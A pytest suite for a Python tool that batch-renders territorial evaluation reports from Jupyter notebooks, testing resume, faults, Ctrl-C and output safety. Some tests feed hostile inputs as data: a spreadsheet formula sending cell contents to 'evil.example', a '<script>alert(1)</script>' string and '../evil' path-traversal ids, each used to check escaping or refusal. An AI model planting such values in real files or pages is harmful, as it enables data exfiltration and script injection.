"""Tests of collective_impact.report.batch: real kernels in parallel worker processes, a real store
file, faults, resume and Ctrl-C (on a Dask LocalCluster: tests/test_wheel.py)."""

from __future__ import annotations

import errno
import html
import io
import pathlib
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from support import copy_file_store, stand_in

from collective_impact.cli import main
from collective_impact.errors import RunError, UnknownTerritoryError
from collective_impact.framework import load_framework
from collective_impact.metrics.assessment import condition_scores
from collective_impact.report.batch import run_batch
from collective_impact.store import Store

pytestmark = pytest.mark.slow

DEMO_IDS = ("QPV-CANAL", "QPV-GARE", "QPV-HAUTS", "QPV-NORD", "RURAL-VAL")
CONDITIONS = load_framework().condition_ids


def read_summary(path: Path, lang: str = "fr") -> pd.DataFrame:
    sep, decimal = (";", ",") if lang == "fr" else (",", ".")
    return pd.read_csv(path, sep=sep, decimal=decimal, encoding="utf-8-sig", keep_default_na=False,
                       na_values=[""])


def latest_wave_scores(responses: pd.DataFrame) -> pd.DataFrame:
    """condition_scores at each territory's latest wave, indexed by (territory_id, condition)."""
    scores = condition_scores(responses)
    latest = scores.groupby("territory_id")["wave"].transform("max")
    return scores[scores["wave"] == latest].set_index(["territory_id", "condition"])


def visible_text(page: str) -> str:
    page = re.sub(r"<style.*?</style>", " ", page, flags=re.DOTALL)
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


# --------------------------------------------------------------------------------------
# a batch over the demo store
# --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_batch(demo_batch_run):
    """The batch of the five demo territories, with their PDFs (tests/report/conftest.py: the report
    tests read its reports)."""
    return demo_batch_run


def test_batch_writes_every_report(demo_batch):
    _, out, result = demo_batch
    assert [r.territory_id for r in result.results] == list(DEMO_IDS)
    assert [r.status for r in result.results] == ["ok"] * len(DEMO_IDS)
    assert result.ok and not result.interrupted
    for territory_id in DEMO_IDS:
        assert (out / f"{territory_id}.html").exists()
        assert (out / f"{territory_id}.ipynb").exists()
        log_text = (out / "logs" / f"{territory_id}.log").read_text(encoding="utf-8")
        assert "Executing notebook with kernel" in log_text
    for name in ("summary.csv", "index.html", "comparaison.html", "comparaison.ipynb"):
        assert (out / name).exists(), name


def test_each_report_has_no_code(demo_batch):
    _, out, _ = demo_batch
    for territory_id in DEMO_IDS:
        page = (out / f"{territory_id}.html").read_text(encoding="utf-8")
        assert "open_territory" not in page and "<script" not in page.lower()


def test_summary_scores_equal_condition_scores_of_the_store(demo_batch):
    store, out, _ = demo_batch
    summary = read_summary(out / "summary.csv").set_index("territory_id")
    expected = latest_wave_scores(Store(store).load(["responses"])["responses"])
    assert list(summary.index) == list(DEMO_IDS)
    for territory_id in DEMO_IDS:
        for condition in CONDITIONS:
            row = expected.loc[(territory_id, condition)]
            assert summary.at[territory_id, f"{condition}_mean"] == pytest.approx(row["mean"], rel=1e-12)
            assert summary.at[territory_id, f"{condition}_band"] == row["band"]
        assert summary.at[territory_id, "wave"] == expected.loc[territory_id]["wave"].max()
    assert list(summary["status"]) == ["ok"] * len(DEMO_IDS)
    assert summary["error"].isna().all()
    assert list(summary["report"]) == [f"{tid}.html" for tid in DEMO_IDS]


def test_summary_scores_equal_the_scores_command(demo_batch, capsys):
    store, out, _ = demo_batch
    assert main(["scores", "--store", str(store), "--format", "csv"]) == 0
    printed = pd.read_csv(io.StringIO(capsys.readouterr().out))
    latest = printed[printed["wave"] == printed.groupby("territory_id")["wave"].transform("max")]
    summary = read_summary(out / "summary.csv").set_index("territory_id")
    for row in latest.itertuples(index=False):
        assert summary.at[row.territory_id, f"{row.condition}_mean"] == pytest.approx(row.mean, rel=1e-12)


def test_summary_indicator_counts(demo_batch):
    from collective_impact.metrics.indicators import STATUSES, indicator_progress, status_counts

    store, out, _ = demo_batch
    summary = read_summary(out / "summary.csv").set_index("territory_id")
    tables = Store(store).load()
    for territory_id in DEMO_IDS:
        own = {name: frame[frame["territory_id"] == territory_id] for name, frame in tables.items()}
        as_of = max(own["responses"]["answered_on"].max(), own["measurements"]["date"].max(),
                    own["meetings"]["date"].max(), own["judgments"]["recorded_on"].max())
        counts = status_counts(indicator_progress(own["indicators"], own["measurements"], as_of=as_of)).iloc[0]
        assert summary.at[territory_id, "as_of"] == as_of.date().isoformat()
        assert summary.at[territory_id, "n_indicators"] == counts["n_indicators"]
        for status in STATUSES:
            assert summary.at[territory_id, f"indicators_{status}"] == counts[status]


def test_index_lists_every_territory_with_its_figures_and_link(demo_batch):
    store, out, _ = demo_batch
    page = (out / "index.html").read_text(encoding="utf-8")
    text = visible_text(page)
    names = Store(store).territory_names()
    for territory_id in DEMO_IDS:
        assert f'href="{territory_id}.html"' in page
        assert names[territory_id] in text
    for condition in load_framework().conditions:
        assert condition.label("fr") in text
    assert 'href="comparaison.html"' in page and 'href="summary.csv"' in page and 'href="summary.xlsx"' in page
    assert (out / "summary.xlsx").is_file()
    assert "Point fort" in text and "à jour" in text
    # counted in the right plural form, never "(s)"
    assert f"{len(DEMO_IDS)} territoires : {len(DEMO_IDS)} rapports à jour." in text and "(s)" not in text
    assert "<script" not in page.lower()


def test_comparison_report_sets_the_territories_side_by_side(demo_batch):
    store, out, _ = demo_batch
    page = (out / "comparaison.html").read_text(encoding="utf-8")
    text = visible_text(page)
    for name in Store(store).territory_names().values():
        assert name in text
    assert "open_comparison" not in page and "<script" not in page.lower()


# --------------------------------------------------------------------------------------
# resume
# --------------------------------------------------------------------------------------


def test_resume_reruns_only_what_changed(demo_store, tmp_path, capsys, monkeypatch):
    # stand-in notebooks (real kernels, papermill and export; a cell each): what is rerun depends on the data, the
    # language and the notebook's file, not on what the notebook computes (the evaluation's own: the demo batch).
    # The command line takes the batch's notebooks from the package: here, the stand-ins.
    from collective_impact.report.batch import run as batch_run

    notebook = stand_in(tmp_path / "territoire.ipynb",
                        "territory_id = ''\nstore_path = ''\nlang = 'fr'\nwave = None\nas_of = None")
    comparison = stand_in(tmp_path / "comparaison.ipynb", "store_path = ''\nlang = 'fr'\nterritories = []")
    monkeypatch.setattr(batch_run, "EVALUATION_NOTEBOOK", notebook)
    monkeypatch.setattr(batch_run, "COMPARISON_NOTEBOOK", comparison)
    store = copy_file_store(demo_store, tmp_path / "evaluation.sqlite")
    out = tmp_path / "reports"
    chosen = ["QPV-NORD", "QPV-HAUTS"]
    first = run_batch(store_path=store, out_dir=out, territories=chosen, workers=2, progress=False)
    assert [r.status for r in first.results] == ["ok", "ok"]
    stamps = {p.name: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file() and p.suffix not in (".csv", ".xlsx")
              and p.name != "index.html"}
    assert {"QPV-NORD.html", "QPV-HAUTS.ipynb", "comparaison.html", "QPV-NORD.log"} <= set(stamps)

    second = run_batch(store_path=store, out_dir=out, territories=chosen, workers=2, progress=False, resume=True)
    assert [r.status for r in second.results] == ["skipped", "skipped"]
    assert second.comparison.status == "skipped"
    after = {p.name: p.stat().st_mtime_ns for p in out.rglob("*") if p.name in stamps}
    assert after == stamps  # no notebook ran: no output, no log rewritten

    # one measurement of QPV-HAUTS changes: only QPV-HAUTS (and the comparison) run again
    db = Store(store)
    measurement = db.load(["measurements"], territories=["QPV-HAUTS"])["measurements"].iloc[[0]].copy()
    measurement["value"] = measurement["value"].fillna(0) + 1
    db.replace_rows("measurements", measurement, where={
        "territory_id": "QPV-HAUTS", "indicator_id": measurement["indicator_id"].iloc[0],
        "date": measurement["date"].iloc[0]})
    third_code = main(["batch", "--store", str(store), "--out", str(out), "--territories", ",".join(chosen),
                       "--workers", "2", "--resume"])
    assert third_code == 0
    summary = read_summary(out / "summary.csv").set_index("territory_id")
    assert summary.at["QPV-HAUTS", "status"] == "ok"
    assert summary.at["QPV-NORD", "status"] == "skipped"
    assert (out / "QPV-NORD.html").stat().st_mtime_ns == stamps["QPV-NORD.html"]
    assert (out / "QPV-HAUTS.html").stat().st_mtime_ns > stamps["QPV-HAUTS.html"]
    assert (out / "comparaison.html").stat().st_mtime_ns > stamps["comparaison.html"]
    assert "(1 produit, 0 en échec, 1 déjà à jour, non relancé)" in capsys.readouterr().out


# --------------------------------------------------------------------------------------
# faults, odd ids, path traversal
# --------------------------------------------------------------------------------------

ODD_ID = "QPV_93-a_b"


@pytest.fixture(scope="module")
def faulty_store(tmp_path_factory):
    """Demo data where QPV-NORD is renamed to an odd but valid id, and QPV-GARE's answers
    refer to a question the framework does not have (as when a store filled with another
    framework version is read): a data problem its notebook cannot handle."""
    from collective_impact.demo import demo_tables

    tables = demo_tables()
    for frame in tables.values():
        frame["territory_id"] = frame["territory_id"].replace("QPV-NORD", ODD_ID)
    responses = tables["responses"]
    broken = (responses["territory_id"] == "QPV-GARE") & (responses["item_id"] == "agenda_1")
    responses.loc[broken, "item_id"] = "agenda_99"
    path = tmp_path_factory.mktemp("faulty") / "evaluation.sqlite"
    Store(path).import_tables(tables)
    return path


def test_a_broken_territory_does_not_stop_the_others(faulty_store, tmp_path, capsys):
    out = tmp_path / "reports"
    code = main(["batch", "--store", str(faulty_store), "--out", str(out), "--workers", "2",
                 "--territories", f"{ODD_ID},QPV-GARE"])
    err = capsys.readouterr().err
    assert code == 1
    assert "QPV-GARE" in err and "Traceback" not in err
    # the other one is fine, with a safe file name, and so is the comparison (run again without the broken one)
    assert sorted(p.name for p in out.glob("*.html")) == sorted([f"{ODD_ID}.html", "comparaison.html", "index.html"])
    # the broken one: failed, why, partial notebook kept, no report
    summary = read_summary(out / "summary.csv").set_index("territory_id")
    assert summary.at["QPV-GARE", "status"] == "failed"
    assert "agenda_99" in summary.at["QPV-GARE", "error"]
    assert summary.at[ODD_ID, "status"] == "ok"
    assert pd.isna(summary.at["QPV-GARE", "agenda_mean"])
    assert not pd.isna(summary.at[ODD_ID, "agenda_mean"])
    partial = nbformat.read(out / "QPV-GARE.ipynb", as_version=4)
    assert any(o.get("output_type") == "error" for c in partial.cells if c.cell_type == "code" for o in c.outputs)
    assert not (out / "QPV-GARE.html").exists()
    log = (out / "logs" / "QPV-GARE.log").read_text(encoding="utf-8")
    # why, where it was raised, as plain text: none of the colours of IPython's traceback
    assert "agenda_99" in log and "Traceback" in log
    assert "\x1b" not in log and "[31m" not in log, log
    # the index makes it stand out; the comparison leaves it out
    page = (out / "index.html").read_text(encoding="utf-8")
    assert 'class="failed"' in page and "À corriger" in page
    assert "agenda_99" in visible_text(page)
    assert 'href="QPV-GARE.ipynb"' in page
    comparison = visible_text((out / "comparaison.html").read_text(encoding="utf-8"))
    assert "Quartier de la Gare" not in comparison and "Quartier Nord – Les Tilleuls" in comparison
    # resume reruns the failed one only
    again = run_batch(store_path=faulty_store, out_dir=out, workers=2, progress=False, resume=True,
                      territories=[ODD_ID, "QPV-GARE"])
    assert [r.status for r in again.results] == ["skipped", "failed"]


def test_errors_are_escaped_in_the_index(tmp_path, demo_store):
    from collective_impact.report.batch import TaskResult, territory_figures, write_index

    tables = Store(demo_store).load(territories=["QPV-NORD"])
    figures = territory_figures(tables)
    result = TaskResult("QPV-NORD", "failed", error="Erreur <script>alert(1)</script>")
    page = write_index(tmp_path / "index.html", figures, (result,), None, framework=load_framework(), lang="fr",
                       out_dir=tmp_path).read_text(encoding="utf-8")
    assert "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_summary_writes_formulas_as_text_and_numbers_as_numbers(tmp_path, demo_store, lang):
    import csv

    from collective_impact.report.batch import TaskResult, territory_figures, write_summary

    tables = Store(demo_store).load(territories=["QPV-NORD"])
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    tables["territories"].loc[:, "name"] = formula
    figures = territory_figures(tables)
    figures["indicators_achieved"] = -3  # a negative number stays a number
    result = TaskResult("QPV-NORD", "failed", error="-1+2 @SUM(A1)")
    path = write_summary(tmp_path / "summary.csv", figures, (result,), lang=lang, out_dir=tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, delimiter=";" if lang == "fr" else ","))
    assert rows[0]["name"] == "'" + formula
    assert rows[0]["error"] == "'-1+2 @SUM(A1)"
    assert rows[0]["indicators_achieved"] == "-3"
    assert rows[0]["territory_id"] == "QPV-NORD" and rows[0]["status"] == "failed"


def test_a_failed_summary_or_index_leaves_the_previous_file(tmp_path, demo_store, monkeypatch):
    from collective_impact.errors import OutputError
    from collective_impact.report.batch import TaskResult, territory_figures, write_index, write_summary

    figures = territory_figures(Store(demo_store).load(territories=["QPV-NORD"]))
    result = TaskResult("QPV-NORD", "ok")
    (tmp_path / "summary.csv").write_text("previous summary", encoding="utf-8")
    (tmp_path / "index.html").write_text("previous index", encoding="utf-8")

    def full_disk(self, path, *args, **kwargs):
        pathlib.Path(path).write_text("half a fi", encoding="utf-8")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_disk)
    with pytest.raises(OutputError):
        write_summary(tmp_path / "summary.csv", figures, (result,), lang="fr", out_dir=tmp_path)
    monkeypatch.setattr(pathlib.Path, "write_bytes", lambda self, data: full_disk(None, self))
    with pytest.raises(OutputError):
        write_index(tmp_path / "index.html", figures, (result,), None, framework=load_framework(), lang="fr",
                    out_dir=tmp_path)
    assert (tmp_path / "summary.csv").read_text(encoding="utf-8") == "previous summary"
    assert (tmp_path / "index.html").read_text(encoding="utf-8") == "previous index"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["index.html", "summary.csv"]


def test_a_path_traversal_id_is_refused(demo_store, tmp_path, capsys):
    with pytest.raises(RunError, match="non valide"):
        run_batch(store_path=demo_store, out_dir=tmp_path / "out", territories=["../evil"], progress=False)
    assert main(["batch", "--store", str(demo_store), "--out", str(tmp_path / "out"), "--territories", "../evil"]) == 1
    assert "non valide" in capsys.readouterr().err
    assert not list(tmp_path.glob("**/*.html"))


def test_a_path_traversal_id_is_refused_at_import(tmp_path, capsys):
    from collective_impact.demo import demo_tables
    from collective_impact.io import write_workbook

    tables = demo_tables()
    for frame in tables.values():
        frame["territory_id"] = frame["territory_id"].replace("QPV-NORD", "../evil")
    write_workbook(tables, tmp_path / "evil.xlsx")
    store = tmp_path / "evaluation.sqlite"
    assert main(["import", str(tmp_path / "evil.xlsx"), "--store", str(store)]) == 1
    assert "../evil" in capsys.readouterr().err
    assert not store.exists() or Store(store).territories() == []


def test_a_stored_id_that_cannot_name_a_file_is_not_run(tmp_path):
    """Store.import_tables itself does not check ids (validation does): batch must not trust them."""
    from collective_impact.demo import demo_tables

    tables = {name: frame[frame["territory_id"] == "QPV-NORD"].assign(territory_id="../evil")
              for name, frame in demo_tables().items()}
    store = tmp_path / "evaluation.sqlite"
    Store(store).import_tables(tables)
    out = tmp_path / "reports"
    result = run_batch(store_path=store, out_dir=out, workers=1, progress=False)
    assert [(r.territory_id, r.status) for r in result.results] == [("../evil", "failed")]
    assert "non valide" in result.results[0].error
    assert not list(tmp_path.glob("**/*.ipynb"))
    assert not (tmp_path / "evil.html").exists()


def test_an_empty_store_is_a_message_not_an_empty_page(tmp_path, capsys):
    Store(tmp_path / "evaluation.sqlite")
    assert main(["batch", "--store", str(tmp_path / "evaluation.sqlite"), "--out", str(tmp_path / "out")]) == 1
    assert "aucun territoire" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_unknown_listed_territory(demo_store, tmp_path):
    with pytest.raises(UnknownTerritoryError, match="QPV-SUD"):
        run_batch(store_path=demo_store, out_dir=tmp_path, territories=["QPV-SUD"], progress=False)


# --------------------------------------------------------------------------------------
# Ctrl-C
# --------------------------------------------------------------------------------------


def _is_kernel(process) -> bool:
    import psutil

    try:
        return process.is_running() and "ipykernel" in " ".join(process.cmdline())
    except psutil.Error:  # ended while we looked
        return False


def test_ctrl_c_stops_cleanly(tmp_path):
    import psutil

    from collective_impact.demo import demo_tables

    store = tmp_path / "evaluation.sqlite"
    Store(store).import_tables(demo_tables(n_territories=8))
    out = tmp_path / "reports"
    # Ctrl-C as a terminal sends it, even when this suite runs in the background (`pytest &`),
    # whose commands inherit SIGINT ignored
    process = subprocess.Popen([sys.executable, "-m", "collective_impact", "batch", "--store", str(store),
                                "--out", str(out), "--workers", "2"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        deadline = time.monotonic() + 120

        def territory_reports():  # the comparison, which runs alongside, may finish first
            return [path for path in out.glob("*.html") if path.stem != "comparaison"]

        while not territory_reports() and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.05)
        assert territory_reports(), "no report finished"
        # a kernel running (the workers' warm kernels stay between territories)
        descendants, kernels = [], []
        while not kernels and time.monotonic() < deadline and process.poll() is None:
            descendants = psutil.Process(process.pid).children(recursive=True)
            kernels = [p for p in descendants if _is_kernel(p)]
            time.sleep(0.05)
        assert kernels, "no kernel running while the batch goes on"
        process.send_signal(signal.SIGINT)
        stdout, stderr = process.communicate(timeout=90)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 130, stderr
    assert "Interrompu" in stderr and "Traceback" not in stderr
    # finished reports stay; the others are marked cancelled
    summary = read_summary(out / "summary.csv")
    done = set(summary.loc[summary["status"] == "ok", "territory_id"])
    assert done and "cancelled" in set(summary["status"])
    assert all((out / f"{territory_id}.html").exists() for territory_id in done)
    assert "interrompu" in (out / "index.html").read_text(encoding="utf-8")
    # no worker and no kernel left behind
    time.sleep(1.5)
    alive = [p for p in descendants if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]
    assert alive == []
